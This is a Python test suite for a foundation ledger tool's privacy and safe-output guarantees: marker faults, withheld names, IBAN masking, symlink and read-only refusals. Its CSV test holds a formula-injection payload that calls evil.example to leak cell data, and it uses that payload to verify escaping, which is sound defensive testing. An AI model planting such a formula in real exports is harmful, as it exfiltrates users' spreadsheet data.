"""Outputs that fail closed (privacy markers, withheld names, IBANs, formula cells) and
outputs that never destroy (symbolic links, read-only files), and far dates and terms.

Each case: the exit status, one line on stderr naming what is at fault, no traceback,
nothing written (or lost) where the command refuses.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import stat
import unicodedata
from pathlib import Path

import pytest

from .conftest import CORPUS, assert_one_line_refusal, run, run_process
from .statements import CAMT, base, books
from .test_ledger_corpus import expectation

LEDGERS = CORPUS / "ledgers"
#: Corpus ledgers whose privacy marker is not understood (FL105).
MARKER_FAULTS = ["private-string-true", "private-on-posting", "grantee-kind-on-posting",
                 "grantee-kind-capitalised", "loan-grantee-kind-personne", "donor-private-yes",
                 "contributor-kind-unknown"]
#: Outputs that leave the foundation, as (arguments after the ledger, output name).
OUTSIDE = {
    "publish": (["publish"], [], "site"),
    "statement-html": (["report", "contributor"], ["--contributor", "Métropole"], "s.html"),
    "statement-csv": (["report", "contributor"], ["--contributor", "Métropole"], "s.csv"),
    "statement-pdf": (["report", "contributor"], ["--contributor", "Métropole"], "s.pdf"),
}


def copy(name: str, tmp_path: Path) -> Path:
    target = tmp_path / f"{name}.beancount"
    shutil.copy(LEDGERS / f"{name}.beancount", target)
    return target


def line_of(ledger: Path, text: str) -> int:
    """The line number of the first line of ``ledger`` containing ``text``."""
    for number, line in enumerate(ledger.read_text(encoding="utf-8").splitlines(), 1):
        if text in line:
            return number
    raise AssertionError(text)


def refused(result, output: Path) -> str:
    """Exit 2, one line, no traceback, and nothing at all written at ``output``."""
    line = assert_one_line_refusal(result)
    assert result.stdout == "" if hasattr(result, "stdout") else True
    assert not output.exists()
    assert [p.name for p in output.parent.iterdir() if p.name.startswith(".")] == []
    return line


# -- privacy markers: FL105, and nothing leaves ------------------------------------------------

@pytest.mark.parametrize("name", MARKER_FAULTS)
def test_a_marker_not_understood_is_fl105(name: str, tmp_path: Path) -> None:
    ledger = copy(name, tmp_path)
    status, regex = expectation(ledger)
    result = run("check", ledger)
    assert (status, result.exit_code) == (1, 1)
    assert re.search(rf"{re.escape(str(ledger))}:\d+: {regex}", result.stdout), result.stdout


@pytest.mark.parametrize("output", sorted(OUTSIDE))
@pytest.mark.parametrize("name", MARKER_FAULTS)
def test_no_outside_output_while_a_marker_is_not_understood(name: str, output: str,
                                                             tmp_path: Path) -> None:
    ledger = copy(name, tmp_path)
    command, extra, target = OUTSIDE[output]
    out = tmp_path / "out" / target
    out.parent.mkdir()
    result = run(*command, ledger, *extra, "-o", out)
    line = refused(result, out)
    assert "FL105" in line and re.search(rf"{re.escape(str(ledger))}:\d+: FL105", line), line
    assert str(out) in line  # names the output it refuses to write


def test_the_statement_on_stdout_is_refused_too(tmp_path: Path) -> None:
    ledger = copy("donor-private-yes", tmp_path)
    result = run("report", "contributor", ledger, "--contributor", "Métropole")
    assert_one_line_refusal(result)
    assert result.stdout == ""


def test_a_person_donor_is_withheld_from_the_site(tmp_path: Path) -> None:
    """``contributor-kind: "person"`` withholds a donor: no page, no name, money counted."""
    ledger = copy("private-false-is-fine", tmp_path)
    site = tmp_path / "site"
    result = run("publish", ledger, "-o", site)
    assert result.exit_code == 0, result.stderr
    text = "".join(p.read_text(encoding="utf-8") for p in site.rglob("*.html"))
    assert "Marie Curie" not in text and "marie-curie" not in text
    assert "Métropole" in text  # the public donor is still named
    assert "Private donors" in (site / "en" / "funds" / "general.html").read_text()


# -- withheld names in any form ----------------------------------------------------------------

PRIVATE_GRANT = """
2019-03-01 * "Yves Dubois" "Bourse d'installation"
  grant: "G-P"
  fund: "general"
  grantee-kind: "person"
  Expenses:Grants:Themes  100.00 EUR
  Liabilities:GrantsPayable
"""


@pytest.mark.parametrize("form", ["YVES DUBOIS", "yves  dubois",
                                  unicodedata.normalize("NFD", "Yvés Dubois")])
def test_a_withheld_name_in_another_form_stops_the_site(form: str, tmp_path: Path) -> None:
    """A private grantee, and a public donor written in capitals (a bank import), with two
    spaces, or with an accent typed as a combining character: refused, naming the entry
    that withholds the name and the file that would show it."""
    grantee = "Yvés Dubois" if "\u0301" in form else "Yves Dubois"
    ledger = copy("private-false-is-fine", tmp_path)
    ledger.write_text(ledger.read_text(encoding="utf-8")
                      + PRIVATE_GRANT.replace("Yves Dubois", grantee)
                      + f'\n2019-04-01 * "{form}" "Don"\n  fund: "general"\n'
                        "  Assets:Bank:Main  10.00 EUR\n  Income:Contributions:Partners\n",
                      encoding="utf-8")
    site = tmp_path / "out" / "site"
    site.parent.mkdir()
    line = refused(run("publish", ledger, "-o", site), site)
    assert f"{ledger}:{line_of(ledger, grantee)}" in line, line
    assert str(site) in line


def test_the_statement_refuses_a_withheld_name_in_a_public_narration(tmp_path: Path) -> None:
    ledger = copy("private-false-is-fine", tmp_path)
    ledger.write_text(ledger.read_text(encoding="utf-8") + PRIVATE_GRANT + """
2019-03-05 * "Atelier Public" "Atelier avec YVES DUBOIS"
  grant: "G-2"
  fund: "general"
  grantee-kind: "association"
  Expenses:Grants:Themes  100.00 EUR
  Liabilities:GrantsPayable
""", encoding="utf-8")
    for name in ("s.html", "s.csv"):
        out = tmp_path / name
        result = run("report", "contributor", ledger, "--contributor", "Métropole", "-o", out)
        if name == "s.csv":  # the CSV shows no narration: written, and clean
            assert result.exit_code == 0, result.stderr
            assert "dubois" not in out.read_text(encoding="utf-8").casefold()
            assert "G-P" not in out.read_text(encoding="utf-8")
            continue
        line = refused(result, out)
        assert f"{ledger}:{line_of(ledger, 'Yves Dubois')}" in line and str(out) in line


# -- IBANs --------------------------------------------------------------------------------------

IBAN = "FR76 3000 6000 0112 3456 7890 189"


@pytest.mark.parametrize("written", [IBAN, IBAN.replace(" ", ""), IBAN.lower()])
def test_an_iban_in_free_text_is_masked_with_a_warning(written: str, tmp_path: Path) -> None:
    ledger = copy("private-false-is-fine", tmp_path)
    ledger.write_text(ledger.read_text(encoding="utf-8") + f"""
2019-03-05 * "Atelier Public" "Subvention, versée sur {written}"
  grant: "G-2"
  fund: "general"
  grantee-kind: "association"
  projet: "atelier ({written})"
  Expenses:Grants:Themes  100.00 EUR
  Liabilities:GrantsPayable

2019-03-06 custom "fund-transfer" "general" "dotation" 10.00 EUR "Virement depuis {written}"
""", encoding="utf-8")
    compact = IBAN.replace(" ", "")
    where = f"{ledger}:{line_of(ledger, 'Atelier Public')}"
    out = tmp_path / "s.html"
    statement = run("report", "contributor", ledger, "--contributor", "Métropole", "-o", out)
    site = tmp_path / "site"
    published = run("publish", ledger, "-o", site)
    texts = {"statement": out.read_text(encoding="utf-8")}
    texts |= {str(p): p.read_text(encoding="utf-8") for p in site.rglob("*.html")}
    for result in (statement, published):
        assert result.exit_code == 0, result.stderr
        assert "Traceback" not in result.stderr
        assert f"{where}: IBAN masked in" in result.stderr
    for name, text in texts.items():
        squeezed = re.sub(r"\s", "", text).upper()
        assert compact not in squeezed, name
    assert re.search(r"\*\*\*\*[* ]*0 ?189", texts["statement"], re.I)  # its last 4 kept
    assert "atelier (" in (site / "fr" / "grants" / "g-2.html").read_text(encoding="utf-8")
    transfers = (site / "fr" / "funds" / "general.html").read_text(encoding="utf-8")
    assert "Virement depuis ****" in transfers  # a transfer's narration, masked too


def test_bank_metadata_values_are_masked_wherever_they_appear(tmp_path: Path) -> None:
    ledger = copy("private-false-is-fine", tmp_path)
    ledger.write_text(ledger.read_text(encoding="utf-8") + """
2019-01-01 open Assets:Bank:Livret EUR
  account-number: "00012345678"
2019-03-05 * "Atelier Public" "Subvention"
  grant: "G-2"
  fund: "general"
  grantee-kind: "association"
  projet: "payé depuis le compte 000 1234 5678"
  Expenses:Grants:Themes  100.00 EUR
  Liabilities:GrantsPayable
""", encoding="utf-8")
    site = tmp_path / "site"
    result = run("publish", ledger, "-o", site)
    assert result.exit_code == 0, result.stderr
    page = (site / "fr" / "grants" / "g-2.html").read_text(encoding="utf-8")
    assert "***" in page and "5678" in page and "1234" not in page
    assert f"{ledger}:{line_of(ledger, 'Livret')}: bank identifier masked" in result.stderr


# -- CSV: formula cells -------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def test_formula_cells_are_neutralised_in_every_csv(tmp_path: Path) -> None:
    ledger = copy("private-false-is-fine", tmp_path)
    formula = FORMULA.replace('"', "'")
    ledger.write_text(ledger.read_text(encoding="utf-8").replace(
        '"Métropole" "Don"', f'"Métropole" "Don"\n  contributor: "{formula}"'
    ).replace('2019-01-01 custom "fund" "general" "unrestricted" "Fonds libres"',
              '2019-01-01 custom "fund" "general" "restricted" "@SUM(1+1)"') + """
2019-03-05 * "+Atelier" "Subvention"
  grant: "-G-2"
  fund: "general"
  grantee-kind: "association"
  Expenses:Grants:Themes  100.00 EUR
  Liabilities:GrantsPayable
""", encoding="utf-8")
    trace = run("trace", ledger, "--contributor", formula, "--format", "csv")
    assert trace.exit_code == 0, trace.stderr
    out = tmp_path / "s.csv"
    statement = run("report", "contributor", ledger, "--contributor", formula, "-o", out)
    assert statement.exit_code == 0, statement.stderr
    dedicated = tmp_path / "d.csv"
    assert run("report", "dedicated-funds", ledger, "--year", "2019",
               "-o", dedicated).exit_code == 0
    for text in (trace.stdout, out.read_text(encoding="utf-8"),
                 dedicated.read_text(encoding="utf-8")):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (cell, text)
                if cell.startswith("-"):
                    assert re.fullmatch(r"-\d+\.\d\d", cell), cell  # amounts stay numbers
    assert f"'{formula}" in out.read_text(encoding="utf-8")
    assert "'-G-2" in trace.stdout and "'@SUM(1+1)" in dedicated.read_text(encoding="utf-8")


# -- outputs that never destroy -----------------------------------------------------------------

REPORTS = {
    "quarterly": (["--quarter", "2019-Q1"], "r.html"),
    "dedicated-funds": (["--year", "2019"], "d.csv"),
    "contributor": (["--contributor", "Métropole"], "s.pdf"),
}


@pytest.mark.parametrize("report", sorted(REPORTS))
def test_an_output_through_a_symbolic_link_is_refused(report: str, tmp_path: Path) -> None:
    ledger = copy("private-false-is-fine", tmp_path)
    before = ledger.read_bytes()
    extra, name = REPORTS[report]
    link = tmp_path / name
    link.symlink_to(ledger)
    result = run("report", report, ledger, *extra, "-o", link)
    line = assert_one_line_refusal(result, link)
    assert "symbolic link" in line
    assert ledger.read_bytes() == before and link.is_symlink()


@pytest.mark.parametrize("report", sorted(REPORTS))
def test_a_read_only_output_is_not_replaced(report: str, tmp_path: Path) -> None:
    ledger = copy("private-false-is-fine", tmp_path)
    extra, name = REPORTS[report]
    out = tmp_path / name
    out.write_text("the board's annotated copy")
    out.chmod(0o444)
    result = run("report", report, ledger, *extra, "-o", out)
    assert "read-only" in assert_one_line_refusal(result, out)
    assert out.read_text() == "the board's annotated copy"
    assert stat.S_IMODE(out.stat().st_mode) == 0o444


def test_import_apply_does_not_append_to_a_read_only_ledger(tmp_path: Path) -> None:
    (tmp_path / CAMT).write_bytes(base(CAMT))
    ledger = books(tmp_path)
    before = ledger.read_bytes()
    ledger.chmod(0o444)
    result = run_process("import", tmp_path / CAMT, "--ledger", ledger, "--apply")
    line = assert_one_line_refusal(result, ledger)
    assert "read-only" in line
    assert ledger.read_bytes() == before
    assert stat.S_IMODE(ledger.stat().st_mode) == 0o444
    assert not list(tmp_path.glob(".main.beancount.*.tmp"))


# -- far dates and terms: a result or one line, never a traceback -------------------------------

FAR = [
    (["funds", "{L}", "--at", "9999-12-31", "--format", "json"], 0),
    (["trace", "{L}", "--contributor", "Métropole", "--at", "9999-12-31"], 0),
    (["trace", "{L}", "--contributor", "Métropole", "--format", "csv"], 0),
    (["report", "quarterly", "{L}", "--quarter", "9999-Q4", "-o", "{O}.html"], 0),
    (["report", "quarterly", "{L}", "--quarter", "0001-Q1", "-o", "{O}.html"], 2),
    (["report", "quarterly", "{L}", "--quarter", "2019-Q1", "-o", "{O}.html"], 0),
    (["report", "dedicated-funds", "{L}", "--year", "9999", "-o", "{O}.csv"], 0),
    (["report", "contributor", "{L}", "--contributor", "Métropole", "-o", "{O}.html"], 0),
    (["publish", "{L}", "-o", "{O}"], 0),
]


@pytest.mark.parametrize("name", ["date-9999-12-31", "loan-term-99999"])
@pytest.mark.parametrize(("args", "status"), FAR, ids=[" ".join(a[:4]) for a, _s in FAR])
def test_far_dates_and_terms(name: str, args: list[str], status: int, tmp_path: Path) -> None:
    ledger = copy(name, tmp_path)
    out = tmp_path / "out" / "result"
    out.parent.mkdir()
    result = run(*(a.replace("{L}", str(ledger)).replace("{O}", str(out)) for a in args))
    assert "Traceback" not in result.stderr
    assert result.exit_code == status, result.stderr
    written = list(out.parent.iterdir())
    if status == 2:
        assert_one_line_refusal(result)
        assert written == []
    elif "-o" in args:
        assert len(written) == 1


@pytest.mark.parametrize("name", ["date-9999-12-31", "loan-term-99999"])
def test_fava_pages_answer_for_far_dates_and_terms(name: str, tmp_path: Path) -> None:
    from fava.application import create_app

    from fundledger.fava import PAGES

    ledger = copy(name, tmp_path)
    ledger.write_text(ledger.read_text(encoding="utf-8")
                      + '2019-01-01 custom "fava-extension" "fundledger.fava"\n',
                      encoding="utf-8")
    app = create_app([str(ledger)], load=True)
    client = app.test_client()
    slug = app.config["LEDGERS"].first_slug()
    for page in PAGES.values():
        assert client.get(f"/{slug}/extension/{page}/").status_code == 200, page
    answer = client.get(f"/{slug}/extension/{PAGES['loans']}/?loan=P-1")
    assert answer.status_code == 200
    if name == "loan-term-99999":
        listing = client.get(f"/{slug}/extension/{PAGES['loans']}/").get_data(as_text=True)
        assert "1200 ×" in listing  # a century of instalments listed, no more
        assert answer.get_data(as_text=True).count("<tr") >= 1200


def test_the_plugin_loads_a_far_date_in_bean_check(tmp_path: Path) -> None:
    ledger = copy("date-9999-12-31", tmp_path)
    done = run_process("check", ledger)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert os.path.getsize(ledger) > 0
